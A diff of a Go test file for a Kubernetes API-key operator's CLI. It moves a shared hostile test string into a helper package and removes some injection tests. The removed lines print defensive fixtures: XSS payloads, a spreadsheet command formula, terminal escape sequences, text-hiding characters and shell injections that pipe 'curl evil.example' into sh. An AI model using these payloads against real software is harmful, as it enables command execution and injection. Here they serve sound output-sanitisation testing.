@@ -32,19 +32,17 @@ import (
 
 	"dgbot.io/key-operator/api/v1alpha1"
 	"dgbot.io/key-operator/internal/apikey"
+	"dgbot.io/key-operator/internal/cli/clitest"
+	"dgbot.io/key-operator/internal/cli/cluster"
+	"dgbot.io/key-operator/internal/cli/flags"
 )
-
-// hostile has one of everything that acts on a reader: a formula, escape sequences in both forms, characters that turn or hide text, all line
-// breaks, the end of a script, and what a shell runs.
-const hostile = "=cmd|' /C calc'!A0\x1b[2J\x1b]0;x\x07\u009b2J\x7f\u202e\u2066\u200f\u061c\u200b\u00ad\u034f\ufeff\U000e0041\U000e0100\ufe00\x00\r\nFORGED a\rFORGED b\vFORGED c\fFORGED d\u0085FORGED e\u2028FORGED f\u2029FORGED g" +
-	"\tx;=1+1;\uff1d1          Ready   </script><script>alert(1)</script><img src=x onerror=alert(1)>$(curl evil.example|sh)`curl evil.example`'; curl evil.example | sh #"
 
 // fillHostile sets every text in a value to the hostile one, every list and map to one entry, and every pointer. Types with an encoding of their
 // own keep to it.
 func fillHostile(value reflect.Value, depth int) {
 	switch value.Interface().(type) {
 	case metav1.Time:
-		value.Set(reflect.ValueOf(*at(-time.Hour)))
+		value.Set(reflect.ValueOf(*clitest.At(-time.Hour)))
 		return
 	case metav1.Duration:
 		value.Set(reflect.ValueOf(metav1.Duration{Duration: time.Hour}))
@@ -54,7 +52,7 @@ func fillHostile(value reflect.Value, depth int) {
 	}
 	switch value.Kind() {
 	case reflect.String:
-		value.SetString(hostile)
+		value.SetString(clitest.Hostile)
 	case reflect.Int32, reflect.Int64:
 		value.SetInt(3)
 	case reflect.Pointer:
@@ -74,7 +72,7 @@ func fillHostile(value reflect.Value, depth int) {
 		}
 		fillHostile(entry, depth-1)
 		value.Set(reflect.MakeMap(value.Type()))
-		value.SetMapIndex(reflect.ValueOf(hostile).Convert(value.Type().Key()), entry)
+		value.SetMapIndex(reflect.ValueOf(clitest.Hostile).Convert(value.Type().Key()), entry)
 	case reflect.Struct:
 		for i := range value.NumField() {
 			if value.Type().Field(i).IsExported() {
@@ -96,13 +94,13 @@ func filled[T any](change func(*T)) T {
 func hostileObjects(key apikey.Key, name string) map[string]any {
 	reference := func(version, kind string) []metav1.OwnerReference {
 		yes := true
-		return []metav1.OwnerReference{{APIVersion: version, Kind: kind, Name: hostile, Controller: &yes}}
+		return []metav1.OwnerReference{{APIVersion: version, Kind: kind, Name: clitest.Hostile, Controller: &yes}}
 	}
 	keyOf := func(state v1alpha1.KeyState) v1alpha1.DGbotAPIKey {
 		return filled(func(k *v1alpha1.DGbotAPIKey) {
-			k.TypeMeta, k.UID, k.Spec.State, k.Namespace, k.Name = typeMeta(v1alpha1.APIKeyKind), "1", state, "support", name
+			k.TypeMeta, k.UID, k.Spec.State, k.Namespace, k.Name = cluster.TypeMeta(v1alpha1.APIKeyKind), "1", state, "support", name
 			k.Spec.ChatbotRef.Name, k.Spec.Environment = "bot", "production"
-			k.Annotations[v1alpha1.KeptAtAnnotation] = hostile
+			k.Annotations[v1alpha1.KeptAtAnnotation] = clitest.Hostile
 			for _, kind := range []string{v1alpha1.ReadyCondition, v1alpha1.StalledCondition, v1alpha1.PolicyViolationCondition, v1alpha1.EnvironmentMissingCondition} {
 				c := k.Status.Conditions[0]
 				c.Type, c.Status = kind, metav1.ConditionTrue
@@ -111,34 +109,34 @@ func hostileObjects(key apikey.Key, name string) map[string]any {
 		})
 	}
 	record := filled(func(r *v1alpha1.DGbotAPIKeyRecord) {
-		r.TypeMeta = typeMeta(v1alpha1.APIKeyRecordKind)
+		r.TypeMeta = cluster.TypeMeta(v1alpha1.APIKeyRecordKind)
 		r.Spec.Hash, r.Spec.KeyID, r.Namespace, r.Spec.APIKeyRef.Name = key.Hash(), key.ID(), "support", name
 	})
 	good := record
-	good.Spec.State, good.Spec.APIKeyRef.UID, good.Spec.NotAfter = v1alpha1.StateActive, "1", at(100*365*day)
+	good.Spec.State, good.Spec.APIKeyRef.UID, good.Spec.NotAfter = v1alpha1.StateActive, "1", clitest.At(100*365*clitest.Day)
 	good.OwnerReferences = []metav1.OwnerReference{{APIVersion: v1alpha1.GroupVersion.String(), Kind: v1alpha1.APIKeyKind, Name: name, UID: "1"}}
 	deployment := filled(func(d *appsv1.Deployment) { d.OwnerReferences = reference("evil.example/v1", "Deployment") })
 	ordinary := filled(func(d *appsv1.Deployment) { d.OwnerReferences = nil })
 	return map[string]any{
 		"/dgbotapikeys": v1alpha1.DGbotAPIKeyList{
-			TypeMeta: typeMeta(v1alpha1.APIKeyKind + "List"), Items: []v1alpha1.DGbotAPIKey{keyOf(v1alpha1.StateActive), keyOf(hostile), keyOf(v1alpha1.StateDisabled)},
+			TypeMeta: cluster.TypeMeta(v1alpha1.APIKeyKind + "List"), Items: []v1alpha1.DGbotAPIKey{keyOf(v1alpha1.StateActive), keyOf(clitest.Hostile), keyOf(v1alpha1.StateDisabled)},
 		},
 		"/dgbotapikeys/web":   keyOf(v1alpha1.StateActive),
-		"/dgbotapikeyrecords": v1alpha1.DGbotAPIKeyRecordList{TypeMeta: typeMeta(v1alpha1.APIKeyRecordKind + "List"), Items: []v1alpha1.DGbotAPIKeyRecord{good}},
-		"/unknown/records":    v1alpha1.DGbotAPIKeyRecordList{TypeMeta: typeMeta(v1alpha1.APIKeyRecordKind + "List"), Items: []v1alpha1.DGbotAPIKeyRecord{record}},
-		"/dgbotchatbots/":     filled(func(c *v1alpha1.DGbotChatbot) { c.TypeMeta = typeMeta(v1alpha1.ChatbotKind) }),
-		"/dgbotenvironments/": filled(func(e *v1alpha1.DGbotEnvironment) { e.TypeMeta = typeMeta(v1alpha1.EnvironmentKind) }),
+		"/dgbotapikeyrecords": v1alpha1.DGbotAPIKeyRecordList{TypeMeta: cluster.TypeMeta(v1alpha1.APIKeyRecordKind + "List"), Items: []v1alpha1.DGbotAPIKeyRecord{good}},
+		"/unknown/records":    v1alpha1.DGbotAPIKeyRecordList{TypeMeta: cluster.TypeMeta(v1alpha1.APIKeyRecordKind + "List"), Items: []v1alpha1.DGbotAPIKeyRecord{record}},
+		"/dgbotchatbots/":     filled(func(c *v1alpha1.DGbotChatbot) { c.TypeMeta = cluster.TypeMeta(v1alpha1.ChatbotKind) }),
+		"/dgbotenvironments/": filled(func(e *v1alpha1.DGbotEnvironment) { e.TypeMeta = cluster.TypeMeta(v1alpha1.EnvironmentKind) }),
 		"/events":             corev1.EventList{Items: []corev1.Event{filled(func(*corev1.Event) {})}},
 		"/namespaces":         corev1.NamespaceList{Items: []corev1.Namespace{filled(func(*corev1.Namespace) {})}},
 		"/deployments":        appsv1.DeploymentList{Items: []appsv1.Deployment{deployment, ordinary}},
 		"/statefulsets":       appsv1.StatefulSetList{Items: []appsv1.StatefulSet{filled(func(s *appsv1.StatefulSet) { s.OwnerReferences = reference("v1", "Deployment") })}},
 		"/daemonsets":         appsv1.DaemonSetList{Items: []appsv1.DaemonSet{filled(func(s *appsv1.DaemonSet) { s.OwnerReferences = reference("evil.example/v1", "DaemonSet") })}},
-		"/replicasets":        appsv1.ReplicaSetList{Items: []appsv1.ReplicaSet{filled(func(s *appsv1.ReplicaSet) { s.OwnerReferences = reference("apps/v1", hostile) })}},
+		"/replicasets":        appsv1.ReplicaSetList{Items: []appsv1.ReplicaSet{filled(func(s *appsv1.ReplicaSet) { s.OwnerReferences = reference("apps/v1", clitest.Hostile) })}},
 		"/cronjobs":           batchv1.CronJobList{},
-		"/jobs":               batchv1.JobList{Items: []batchv1.Job{filled(func(j *batchv1.Job) { j.OwnerReferences = reference(hostile+"/v1", "Deployment") })}},
-		"/pods":               corev1.PodList{Items: []corev1.Pod{filled(func(p *corev1.Pod) { p.OwnerReferences = reference(hostile, hostile) })}},
+		"/jobs":               batchv1.JobList{Items: []batchv1.Job{filled(func(j *batchv1.Job) { j.OwnerReferences = reference(clitest.Hostile+"/v1", "Deployment") })}},
+		"/pods":               corev1.PodList{Items: []corev1.Pod{filled(func(p *corev1.Pod) { p.OwnerReferences = reference(clitest.Hostile, clitest.Hostile) })}},
 		"/version":            map[string]string{},
-		"/v1/verify":          map[string]any{"valid": false, "missingScopes": []string{hostile}, "error": hostile, "label": hostile},
+		"/v1/verify":          map[string]any{"valid": false, "missingScopes": []string{clitest.Hostile}, "error": clitest.Hostile, "label": clitest.Hostile},
 	}
 }
 
@@ -151,7 +149,7 @@ func hostileServer(t *testing.T, objects map[string]any, denies bool) string {
 			answer.WriteHeader(http.StatusForbidden)
 			_ = json.NewEncoder(answer).Encode(metav1.Status{
 				TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Status"}, Status: metav1.StatusFailure, Reason: metav1.StatusReasonForbidden,
-				Code: http.StatusForbidden, Message: hostile, Details: &metav1.StatusDetails{Group: v1alpha1.GroupVersion.Group, Name: hostile},
+				Code: http.StatusForbidden, Message: clitest.Hostile, Details: &metav1.StatusDetails{Group: v1alpha1.GroupVersion.Group, Name: clitest.Hostile},
 			})
 			return
 		}
@@ -169,7 +167,7 @@ func hostileServer(t *testing.T, objects map[string]any, denies bool) string {
 
 // TestEveryVerb_KeepsHostileTextFromActing on a terminal, a page, a spreadsheet or a shell.
 func TestEveryVerb_KeepsHostileTextFromActing(t *testing.T) {
-	key := mint(t, "production")
+	key := clitest.Mint(t, "production")
 	parsed, err := apikey.Parse(key)
 	if err != nil {
 		t.Fatal(err)
@@ -178,12 +176,12 @@ func TestEveryVerb_KeepsHostileTextFromActing(t *testing.T) {
 	odd["/dgbotapikeyrecords"] = objects["/unknown/records"]
 	servers := map[string]string{
 		"known": hostileServer(t, objects, false), "a state that is not known": hostileServer(t, odd, false), "denied": hostileServer(t, objects, true),
-		"hostile names": hostileServer(t, hostileObjects(parsed, hostile), false),
+		"hostile names": hostileServer(t, hostileObjects(parsed, clitest.Hostile), false),
 	}
 
 	folder := t.TempDir()
 	// The longest hostile name that a file can have, with an invalid byte, which is a sign of tabwriter's.
-	name := strings.ReplaceAll(strings.ReplaceAll(hostile, "/", ":"), "\x00", "\xff")[:200]
+	name := strings.ReplaceAll(strings.ReplaceAll(clitest.Hostile, "/", ":"), "\x00", "\xff")[:200]
 	if err := os.WriteFile(filepath.Join(folder, name), []byte("key: "+key), 0o600); err != nil {
 		t.Fatal(err)
 	}
@@ -194,9 +192,9 @@ func TestEveryVerb_KeepsHostileTextFromActing(t *testing.T) {
 		{"rotate", "web"}, {"rotate", "--all"}, {"rotate", "web", "--dry-run"}, {"rotate", "web", "--dry-run", "-o", "json"}, {"rotate", "--all", "--wait", "--timeout=1ms"},
 		{"compromise", "web", "--yes", "--wait", "--timeout=1ms"}, {"compromise", "web"}, {"compromise", "-", "--yes"}, {"revoke", "--all"}, {"revoke", "web", "--yes"},
 		{"disable", "web"}, {"enable", "--all"}, {"identify"}, {"identify", "-o", "yaml"}, {"verify"}, {"verify", "--scope", "a"}, {"verify", "-o", "json"},
-		{"version"}, {"__complete", "rotate", ""}, {"__complete", "list", "--namespace", ""}, {hostile}, {"rotate", hostile}, {"describe", "-l", hostile}, {"list", "-o", hostile},
+		{"version"}, {"__complete", "rotate", ""}, {"__complete", "list", "--namespace", ""}, {clitest.Hostile}, {"rotate", clitest.Hostile}, {"describe", "-l", clitest.Hostile}, {"list", "-o", clitest.Hostile},
 	}
-	for _, output := range listOutputs {
+	for _, output := range flags.ListOutputs {
 		verbs = append(verbs, []string{"list", "-o", output}, []string{"list", "-A", "-o", output}, []string{"audit", "-o", output},
 			[]string{"scan", "-", "-o", output}, []string{"scan", folder, "-o", output})
 	}
@@ -299,58 +297,8 @@ func flatten(rows [][]string) (all []string) {
 	return all
 }
 
-// TestList_KeepsEveryCharacterForPrograms: what a terminal must not get is escaped.
-func TestList_KeepsEveryCharacterForPrograms(t *testing.T) {
-	key := healthy("web")
-	key.Spec.Label = hostile
-	var out bytes.Buffer
-	if err := printKeys(newWriter(&out), "json", []v1alpha1.DGbotAPIKey{*key}, now); err != nil {
-		t.Fatal(err)
-	}
-	var list v1alpha1.DGbotAPIKeyList
-	if err := json.Unmarshal(out.Bytes(), &list); err != nil || list.Items[0].Spec.Label != hostile {
-		t.Errorf("%v, %q", err, list.Items[0].Spec.Label)
-	}
-}
-
-// TestShellCommand_IsWhatWasMeant for a real shell, whatever is in its words.
-func TestShellCommand_IsWhatWasMeant(t *testing.T) {
-	for _, word := range []string{"web", "deployment/web", "spec.keyID=7Hq2", "", " ", "'", "''", `\`, "~root", "=cmd", "a*", "#x", "$(id)", "`id`", "; id", "a\nb", "é", "!x", hostile[:20]} {
-		ran, err := exec.Command("sh", "-c", "show() { printf '<%s>' \"$@\"; }; "+shellCommand("show", word, "-n", word)).Output()
-		if want := "<" + oneLine(word) + "><-n><" + oneLine(word) + ">"; word != " " && (err != nil || string(ran) != want) {
-			t.Errorf("%q: %s, %v", word, ran, err)
-		}
-	}
-	if got := shellCommand("kubectl", "rollout", "restart", "deployment/web", "-n", "support"); strings.Contains(got, "'") {
-		t.Errorf("%s is quoted without need", got)
-	}
-}
-
-// TestConsumersIn_TakesNoOwnerReferenceAtItsWord: only objects that were listed are restarted, under their own names.
-func TestConsumersIn_TakesNoOwnerReferenceAtItsWord(t *testing.T) {
-	yes := true
-	for name, tc := range map[string]struct{ version, kind, owner, want string }{
-		"a Rollout":                   {"argoproj.io/v1alpha1", "Rollout", "canary", "Rollout.argoproj.io/canary: needs a restart"},
-		"a Deployment of another":     {"evil.example/v1", "Deployment", "web", "Deployment.evil.example/web: needs a restart"},
-		"a Deployment of the core":    {"v1", "Deployment", "other", "StatefulSet/own: kubectl rollout restart statefulset/own -n support"},
-		"another listed kind":         {"apps/v1", "Deployment", "other", "StatefulSet/own: kubectl rollout restart statefulset/own -n support"},
-		"a ReplicationController":     {"v1", "ReplicationController", "old", "ReplicationController/old: needs a restart"},
-		"a command as the name":       {"evil.example/v1", "Deployment", "web; curl evil.example | sh #", "StatefulSet/own: kubectl rollout restart statefulset/own -n support"},
-		"a command as the kind":       {"evil.example/v1", "Deployment; id", "web", "StatefulSet/own: kubectl rollout restart statefulset/own -n support"},
-		"a command as the group":      {"evil.example; id/v1", "Deployment", "web", "StatefulSet/own: kubectl rollout restart statefulset/own -n support"},
-		"what is no version":          {"a/b/c", "Deployment", "web", "StatefulSet/own: kubectl rollout restart statefulset/own -n support"},
-		"a name that begins as flags": {"evil.example/v1", "Rollout", "--all", "StatefulSet/own: kubectl rollout restart statefulset/own -n support"},
-	} {
-		owned := metav1.ObjectMeta{Name: "own", OwnerReferences: []metav1.OwnerReference{{APIVersion: tc.version, Kind: tc.kind, Name: tc.owner, Controller: &yes}}}
-		all := consumersIn([]workload{{"StatefulSet", &appsv1.StatefulSet{ObjectMeta: owned}, &corev1.PodTemplateSpec{Spec: reading["a variable"].pod}}}, "web")
-		if got := all[0].title() + ": " + all[0].after("support"); len(all) != 1 || got != tc.want {
-			t.Errorf("%s: %s", name, got)
-		}
-	}
-}
-
 // writers are the files that may write without writef: those of writef itself, and the progress of a scan, which has only counts in it.
-var writers = []string{"harmless.go", "progress.go"}
+var writers = []string{"display/harmless.go", "scan/progress.go"}
 
 // TestVerbs_WriteOnlyThroughWritef holds the plugin to the functions of harmless.go: with fmt.Fprintf, an argument would be written as it is.
 func TestVerbs_WriteOnlyThroughWritef(t *testing.T) {
